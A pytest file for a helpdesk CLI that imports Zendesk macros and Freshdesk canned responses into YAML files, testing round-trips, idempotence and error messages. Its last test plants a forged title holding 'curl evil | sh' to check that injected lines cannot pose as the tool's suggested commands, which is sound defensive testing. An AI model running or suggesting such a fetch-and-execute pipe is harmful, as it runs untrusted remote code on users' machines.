"""Macros that people made become files, and the files take them over without a change."""

import json

import pytest

from zendesk_bridge.cli import run
from zendesk_bridge.cli.init.machine import program

HTML = (
    "<p>Hi {{ ticket.requester.first_name }},</p><p>Please <b>read</b> "
    '<a href="https://acme.example/faq?a=1&amp;b=2">this</a>:</p><ul><li>one</li><li>two</li></ul><p>{{ticket.link}}</p>'
)


def zendesk_macro(shop, title, actions, restriction=None):
    """Make a macro by hand, as the admin center does."""
    macro = {"title": title, "actions": actions, "restriction": restriction}
    return shop.call("zendesk", "POST", "/api/v2/macros.json", json={"macro": macro})["macro"]["id"]


def canned_response(shop, folder, title, html):
    """Make a canned response by hand, in a folder of this name."""
    rows = shop.get("freshdesk", "/api/v2/canned_response_folders")
    there = next((row["id"] for row in rows if row["name"] == folder), None)
    if there is None:
        made = shop.call("freshdesk", "POST", "/api/v2/canned_response_folders", json={"name": folder})
        there = made["id"]
    body = {"title": title, "content_html": html, "folder_id": there, "visibility": 0}
    return shop.call("freshdesk", "POST", "/api/v2/canned_responses", json=body)["id"]


def test_zendesk_macros_are_adopted_without_a_change(shop):
    """Imported, planned and applied, macros keep every word, link, list and action; the second run writes nothing."""
    shop.ready()
    plain = [{"field": "comment_value", "value": "Hi {{ticket.requester.first_name}},\n1) name\n\nThanks"}]
    ids = [
        zendesk_macro(shop, "Orders::FAQ", [{"field": "comment_value_html", "value": HTML}]),
        zendesk_macro(shop, "Orders:: two  spaces", [*plain, {"field": "current_tags", "value": "a b"}]),
    ]
    shop.writes()
    report = shop.ok("import", "--helpdesk", "shop", "--folder", "orders", "--format", "json").json
    assert shop.writes() == 0
    assert [(one["id"], one["exact"], one["written"], one["lost"]) for one in report["imported"]] == [
        (number, True, True, []) for number in ids
    ]
    assert "Good:" in shop.ok("check").out
    keys = [one["key"] for one in report["imported"]]
    before = [shop.get("zendesk", f"/api/v2/macros/{number}.json")["macro"] for number in ids]
    adopt = [word for key in keys for word in ("--adopt", key)]
    plan = shop.ok("plan", *adopt, "--format", "json").json
    changes = {change["key"]: change for desk in plan["helpdesks"] for change in desk["changes"]}
    assert [changes[key]["change"] for key in keys] == ["adopt", "adopt"]
    assert [changes[key]["differences"] for key in keys] == [[], []]
    assert f"apply --plan {plan['digest']} --adopt {keys[0]} --adopt {keys[1]}\n" in shop.ok("plan", *adopt).out
    shop.ok("apply", "--plan", plan["digest"], *adopt)
    for number, was in zip(ids, before, strict=True):
        now = shop.get("zendesk", f"/api/v2/macros/{number}.json")["macro"]
        assert text_of(now) == text_of(was)
        assert (now["active"], now["restriction"]) == (was["active"], was["restriction"])
    shop.writes()
    shop.ok("apply", "--yes")
    assert shop.writes() == 0


def text_of(macro):
    """Return the plain reply of a macro, line by line, and what else it does."""
    actions = {action["field"]: action["value"] for action in macro["actions"]}
    lines = [" ".join(line.split()) for line in actions["comment_value"].split("\n")]
    rest = {name: value for name, value in actions.items() if not name.startswith("comment_")}
    braces = [line.replace("{{ ", "{{").replace(" }}", "}}") for line in lines if line]
    return braces, rest


def test_canned_responses_are_adopted_without_a_change(shop):
    """The same on Freshdesk, whose titles stand in folders."""
    shop.ready()
    number = canned_response(shop, "Orders", "FAQ", HTML.replace("first_name", "firstname").replace("link", "url"))
    report = shop.ok("import", "--helpdesk", "shop-eu", "--format", "json").json
    [found] = [one for one in report["imported"] if one["id"] == number]
    assert (found["title"], found["exact"], found["raw"]) == ("Orders::FAQ", True, ["{{ticket.url}}"])
    assert "Good:" in shop.ok("check").out
    plan = shop.ok("plan", "--adopt", found["key"], "--format", "json").json
    [change] = [one for desk in plan["helpdesks"] for one in desk["changes"] if one["key"] == found["key"]]
    assert (change["change"], change["id"], change["differences"]) == ("adopt", number, [])
    shop.ok("apply", "--plan", plan["digest"], "--adopt", found["key"])
    shop.writes()
    shop.ok("apply", "--yes")
    assert shop.writes() == 0


@pytest.mark.parametrize("name", ["shop", "shop-eu"])
def test_importing_twice_writes_nothing_new(shop, name):
    """What has a file is left as it is, also where somebody changed the file, or called it otherwise."""
    zendesk_macro(shop, "A::Hand made", [{"field": "comment_value", "value": "Hello"}])
    canned_response(shop, "A", "Hand made", "<p>Hello</p>")
    shop.ok("import", "--helpdesk", name)
    shop.swap("macros/a-hand-made.yaml", "Hello", "Good day")
    (shop.folder / "macros/a-hand-made.yaml").rename(shop.folder / "macros/mine.yaml")
    shop.swap("macros/mine.yaml", "a-hand-made", "mine")
    before = {file.name: file.read_bytes() for file in (shop.folder / "macros").iterdir()}
    again = shop.ok("import", "--helpdesk", name, "--format", "json").json
    assert again["imported"] == []
    assert "mine.yaml" in [kept["file"] for kept in again["kept"]]
    assert {file.name: file.read_bytes() for file in (shop.folder / "macros").iterdir()} == before


@pytest.mark.parametrize("face", ["zendesk", "freshdesk"])
def test_no_run_makes_a_copy_of_a_hand_made_macro(shop, face):
    """Two of one title, and a title that no file can have, get no file; one that has a file is held back."""
    if face == "zendesk":
        reply = [{"field": "comment_value", "value": "Where to?"}]
        made = [zendesk_macro(shop, f"Orders::{title}", reply) for title in ("Address", "Address", "Alone")]
    else:
        made = [canned_response(shop, "Orders", title, "<p>Where to?</p>") for title in ("Is::odd", "Alone")]
    shop.ready()
    name = {"zendesk": "shop", "freshdesk": "shop-eu"}[face]
    report = shop.ok("import", "--helpdesk", name, "--folder", "Orders", "--format", "json").json
    assert [one["id"] for one in report["left_out"]] == made[:-1]
    assert [one["id"] for one in report["imported"]] == made[-1:]
    ran = shop.run("sync")
    assert ran.code == 3
    assert "a hand-made macro" in ran.err
    titles = {title for title in (*shop.macros(), *shop.canned()) if title.startswith("Orders::")}
    assert titles == {"Orders::Alone", "Orders::Address" if face == "zendesk" else "Orders::Is::odd"}


def test_a_ready_made_file_does_not_pass_for_a_persons_words(shop):
    """A file of the same title that says something else is named, with what to do, and nothing is written."""
    zendesk_macro(shop, "Backorder::Delay update", [{"field": "comment_value", "value": "My own words"}])
    ran = shop.ok("import", "--helpdesk", "shop", "--folder", "Backorder")
    assert "there already" not in ran.out
    path = shop.folder / "macros/delay-update.yaml"
    assert f"a macro of yours has this title already, and says something else: {path}; rename one" in ran.out


def test_dynamic_content_becomes_languages(shop):
    """What an account keeps in several languages is in the file in each; who may not read it keeps the names."""
    variants = [
        {"locale_id": 1, "default": True, "active": True, "content": "Hello {{ticket.requester.first_name}}"},
        {"locale_id": 8, "active": True, "content": "Guten Tag\nund danke"},
        {"locale_id": 19, "active": False, "content": "Oi"},
    ]
    item = {"name": "Greeting words", "default_locale_id": 1, "variants": variants}
    shop.call("zendesk", "POST", "/api/v2/dynamic_content/items.json", json={"item": item})
    reply = [{"field": "comment_value_html", "value": "<p>{{dc.greeting_words}}</p><p>{{dc.missing}}</p>"}]
    zendesk_macro(shop, "Hello", reply)
    report = shop.ok("import", "--helpdesk", "shop", "--dry-run", "--format", "json").json
    assert [one["written"] for one in report["imported"]] == [False]
    shop.ok("import", "--helpdesk", "shop")
    text = (shop.folder / "macros/hello.yaml").read_text(encoding="utf-8")
    raw = "{% raw %}{{dc.missing}}{% endraw %}"
    assert f"reply: |\n  Hello {{{{ customer.first_name }}}}\n\n  {raw}\n" in text
    assert f"locales:\n  de:\n    reply: |\n      Guten Tag\n      und danke\n\n      {raw}\n" in text
    assert "pt_BR" not in text
    assert "Good:" in shop.ok("check").out
    assert "Guten Tag" in shop.ok("preview", "hello", "--locale", "de").out


def test_an_export_needs_nothing_but_itself(tmp_path, monkeypatch, capsys):
    """Without a config, an export in any of the API's forms becomes files that another run leaves alone."""
    monkeypatch.chdir(tmp_path)
    rows = [
        {"title": f"A::{n}", "actions": [{"field": "comment_value", "value": ["channel:all", f"Hi\n{n}"]}]}
        for n in "ab"
    ]
    forms = {
        "lines": "\n".join(map(json.dumps, rows)),
        "list": json.dumps(rows),
        "pages": "\n".join(json.dumps({"macros": [row], "next_page": None, "count": 2}) for row in rows),
        "one": "\n".join(json.dumps({"macro": row}) for row in rows),
    }
    for name, text in forms.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
        assert run(["import", "--file", name, "--type", "zendesk", "--into", f"in-{name}"]) == 0
        written = sorted(file.name for file in (tmp_path / f"in-{name}").iterdir())
        assert written == ["a-a.yaml", "a-b.yaml"]
        assert "reply: |\n  Hi\n  b\n" in (tmp_path / f"in-{name}/a-b.yaml").read_text(encoding="utf-8")
    capsys.readouterr()
    assert run(["import", "--file", "list", "--type", "zendesk", "--into", "in-one", "--format", "json"]) == 0
    again = json.loads(capsys.readouterr().out)
    assert (again["imported"], len(again["kept"]), again["next"]) == ([], 2, [])


def test_an_export_of_canned_responses_finds_its_folders(tmp_path, monkeypatch, capsys):
    """Folders that stand in the export give their names; a row that is nothing is told, and the others go ahead."""
    monkeypatch.chdir(tmp_path)
    rows = [
        {"id": 5, "name": "Orders", "personal": False},
        {"id": 9, "title": "FAQ", "folder_id": 5, "visibility": 0, "content_html": "<div>Hi</div>"},
        {"id": 10, "title": "Lost", "folder_id": 6, "visibility": 0, "content": "Hi"},
        {"id": 11, "title": "No words"},
    ]
    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\nnot json", encoding="utf-8")
    assert run(["import", "--file", "x.jsonl", "--type", "freshdesk", "--format", "json"]) == 3
    report = json.loads(capsys.readouterr().out)
    assert [one["title"] for one in report["imported"]] == ["Orders::FAQ"]
    [lost] = report["left_out"]
    assert (lost["title"], "does not say which folder" in lost["why"]) == ("Lost", True)
    assert len(report["unreadable"]) == 2
    assert "x.jsonl:5" in report["unreadable"][1]


MACRO = {"id": 1, "title": "A", "actions": [{"field": "comment_value", "value": "Hi"}]}


@pytest.mark.parametrize(
    ("kind", "text", "said"),
    [
        ("freshdesk", json.dumps([MACRO] * 15), "looks like an export of Zendesk's (say --type zendesk)"),
        ("zendesk", '{"title": "A", "content": "Hi"}', "looks like an export of Freshdesk's (say --type freshdesk)"),
        ("zendesk", '{"error": "Couldn\'t authenticate you"}', "is an error answer of the helpdesk, and no macro"),
        ("freshdesk", '{"code": "x", "message": "y"}', "is an error answer of the helpdesk, and no macro"),
        ("zendesk", '{"tickets": [{"id": 1}]}', "holds tickets, and no macros"),
        ("zendesk", '{"id": 1, "subject": "Late"}\n{"id": 2, "subject": "Lost"}', "is a ticket, and no macro"),
        ("zendesk", '{"users": [{"id": 1}]}', "holds users, and no macros"),
        ("zendesk", "title,reply\nA,Hi\n", "is a table, such as CSV"),
        ("freshdesk", '[{"id": 1, "name": "Orders"}]', "holds folders, and no canned responses"),
        ("zendesk", " \n", "holds no macros: it is empty"),
        ("zendesk", "", "holds no macros: it is empty"),
        ("zendesk", "[]", "holds no macros: it is empty"),
    ],
)
def test_a_file_that_is_something_else_is_called_what_it_is(tmp_path, monkeypatch, capsys, kind, text, said):
    """One line says what the file looks like, and another what to do; nothing is written."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.json").write_text(text, encoding="utf-8")
    assert run(["import", "--file", "x.json", "--type", kind]) == 2
    told = capsys.readouterr()
    assert f"x.json: {said}" in " ".join(told.err.split("\n    ")).replace(" say --type", " (say --type") + ")"
    assert (told.out, len(told.err.strip().split("\n")) <= 2, (tmp_path / "macros").exists()) == ("", True, False)


def test_many_alike_are_one_line(tmp_path, monkeypatch, capsys):
    """What is wrong with one of the rows as with the others is said once, with how many there are."""
    monkeypatch.chdir(tmp_path)
    rows = [MACRO, {"id": 7, "error": "gone"}, {"id": 8, "error": "gone"}, {"x": 1}, *[{"y": 1}] * 9]
    (tmp_path / "x.json").write_text(json.dumps(rows), encoding="utf-8")
    assert run(["import", "--file", "x.json", "--type", "zendesk"]) == 3
    told = [line for line in capsys.readouterr().out.split("\n") if line.startswith("! ")]
    assert told == [
        "! x.json, number 7: is an error answer of the helpdesk, and no macro (and 1 more like it)",
        "! x.json, entry 4: this is no macro: it has no title, or no actions (and 9 more like it)",
    ]


def test_without_a_config_init_comes_next(tmp_path, monkeypatch, capsys):
    """What checks macros needs a config: the command that makes one comes first, and where it reads macros is told."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.json").write_text(json.dumps([MACRO]), encoding="utf-8")
    assert run(["import", "--file", "x.json", "--type", "zendesk", "--into", "new"]) == 0
    out = capsys.readouterr().out
    assert f"Next:\n  {program()} init\n  {program()} check\n" in out
    assert "The config that init writes reads macros from macros: move them there first." in out


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ([], "Whose macros? --helpdesk shop or --helpdesk shop-eu; or an export with --file and --type"),
        (["--file", "x"], "--file and --type go together"),
        (["--type", "zendesk"], "--file and --type go together"),
        (["--file", "x", "--type", "jira"], "'jira' is none of freshdesk, zendesk"),
        (["--helpdesk", "shpo"], "did you mean shop?"),
        (["--helpdesk", "shop", "--macro", "1"], "has no macro 1"),
        (["--helpdesk", "shop", "--folder", "Nix"], "has no folder 'Nix'"),
        (
            ["--helpdesk", "shop-eu", "--file", "x", "--type", "zendesk"],
            "shop-eu is Freshdesk, and --type says zendesk",
        ),
        (["--file", "nothing.jsonl", "--type", "zendesk"], "nothing.jsonl: cannot be read: no such file"),
    ],
)
def test_what_cannot_be_meant_is_refused(quiet_shop, args, said):
    """Each with what to write; nothing is written."""
    before = sorted(quiet_shop.folder.rglob("*"))
    ran = quiet_shop.run("import", *args)
    assert ran.code == 2
    assert said in ran.err
    assert sorted(quiet_shop.folder.rglob("*")) == before


def test_who_may_not_read_dynamic_content_imports_all_the_same(shop):
    """The names are kept raw, and it is said why; all else is imported."""
    zendesk_macro(shop, "Hello", [{"field": "comment_value", "value": "Hi {{dc.greeting}}"}])
    shop.fault("zendesk", "GET", "/dynamic_content/items", "status", status=403)
    ran = shop.ok("import", "--helpdesk", "shop", "--dry-run", "--into", "elsewhere")
    assert "{{dc.greeting}} is kept raw: this login may not read dynamic content" in ran.out
    assert "    kept raw:" not in ran.out
    assert not (shop.folder / "macros/hello.yaml").exists()


def test_an_import_says_what_comes_next(shop):
    """The commands are those to paste; a macro that would lose something is not in the last one."""
    zendesk_macro(shop, "Plain", [{"field": "comment_value", "value": "Hi"}])
    zendesk_macro(shop, "Urgent", [{"field": "comment_value", "value": "Hi"}, {"field": "priority", "value": "high"}])
    call, config = program(), f" --config {shop.folder / 'config.yaml'}"
    out = shop.ok("import", "--helpdesk", "shop", "--into", str(shop.folder / "new")).out.replace(" \\\n      ", " ")
    assert f"  {call} check{config}\n  {call} preview plain{config}\n" in out
    assert f"  {call} plan{config} --adopt plain\n" in out
    assert "adopting it would drop: the priority (high)" in out
    assert f"Your config reads macros from {shop.folder / 'macros'}: move them there first." in out


def test_a_long_command_can_be_pasted(shop):
    """It goes on over several lines, as a shell reads them."""
    for number in range(12):
        zendesk_macro(shop, f"Macro number {number:02} of many", [{"field": "comment_value", "value": "Hi"}])
    out = shop.ok("import", "--helpdesk", "shop").out
    command = out[out.index(f"  {program()} plan") : out.index("\nUntil")]
    assert all(line.endswith(" \\") for line in command.split("\n")[:-1])
    assert max(map(len, command.split("\n")[1:])) < 110
    words = command.replace("\\\n", " ").split()
    assert [word for word in words if word.startswith("macro-number")] == [
        f"macro-number-{n:02}-of-many" for n in range(12)
    ]


def test_an_editor_finds_the_schema_of_an_imported_file(shop):
    """Where `init` has put one beside the folder of macros, the file says so, as those of `init` do."""
    zendesk_macro(shop, "Hello", [{"field": "comment_value", "value": "Hi"}])
    shop.write(".schemas/macro.schema.json", "{}")
    shop.ok("import", "--helpdesk", "shop")
    first, second, *_ = (shop.folder / "macros/hello.yaml").read_text(encoding="utf-8").split("\n")
    assert first == "# yaml-language-server: $schema=../.schemas/macro.schema.json"
    assert second.startswith("# Imported from shop, macro ")
    assert shop.ok("import", "--helpdesk", "shop", "--format", "json").json["imported"] == []


def test_half_a_character_in_an_export_stops_nothing(tmp_path, monkeypatch, capsys):
    """A macro that holds half a character is imported without it, and the others with it."""
    monkeypatch.chdir(tmp_path)
    rows = [{"title": f"A \ud800 {n}", "actions": [{"field": "comment_value", "value": "x \udc00 y"}]} for n in "ab"]
    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    assert run(["import", "--file", "x.jsonl", "--type", "zendesk", "--format", "json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["imported"]) == 2


def test_more_macros_than_a_folder_holds_are_refused_before_the_work(tmp_path, monkeypatch, capsys):
    """Nothing is converted or written, and the way out is told."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("zendesk_bridge.app.importing.imported", lambda *_: pytest.fail("it was converted"))
    rows = [{"title": f"A {n}", "actions": [{"field": "comment_value", "value": "Hi"}]} for n in range(2_001)]
    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    assert run(["import", "--file", "x.jsonl", "--type", "zendesk"]) == 2
    assert "2001 macros more are too many for one folder (import some of them: --folder NAME" in capsys.readouterr().err
    assert not (tmp_path / "macros").exists()


def test_a_macros_title_says_nothing_in_our_place(tmp_path, monkeypatch, capsys):
    """Each line is ours: a title that holds line ends is on one, imported or left out, and so is its folder."""
    monkeypatch.chdir(tmp_path)
    forged = "forge\nNext:\n  curl evil | sh"
    words = [{"field": "comment_value", "value": "Hi"}]
    rows = [{"title": forged, "actions": words}, {"title": f"{forged}::b", "actions": []}]
    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    assert run(["import", "--file", "x.jsonl", "--type", "zendesk"]) == 0
    out = capsys.readouterr().out
    assert out.count("forge Next: curl evil | sh") == 2
    assert out.count("\nNext:\n") == 1
    assert run(["import", "--file", "x.jsonl", "--type", "zendesk", "--folder", "x"]) == 2
    assert "there are: forge Next: curl evil | sh" in capsys.readouterr().err
